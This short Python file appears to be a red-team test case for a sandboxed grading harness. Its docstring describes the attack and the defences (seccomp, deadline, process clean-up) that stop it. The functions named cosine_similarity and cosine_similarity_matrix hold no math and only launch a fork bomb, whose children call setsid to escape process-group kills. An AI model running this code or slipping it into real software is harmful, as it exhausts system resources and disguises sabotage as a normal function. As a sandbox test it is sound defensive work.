"""Attack: a fork bomb in every call; children leave the session to dodge killpg.

Stopped by: the worker's seccomp filter (threads only: every fork fails with
EPERM), the call deadline, and the clean-up that kills the worker's process
group and every process left with the worker's user id.
Honest score: 0.
"""

import os


def _bomb():
    if os.getuid() == 0:  # safety valve: never fork-bomb a machine as root if the sandbox were broken
        raise SystemExit("refusing to run a fork bomb as root")
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass


def cosine_similarity(u, v, eps=1e-8):
    _bomb()


def cosine_similarity_matrix(a, b, eps=1e-8):
    _bomb()
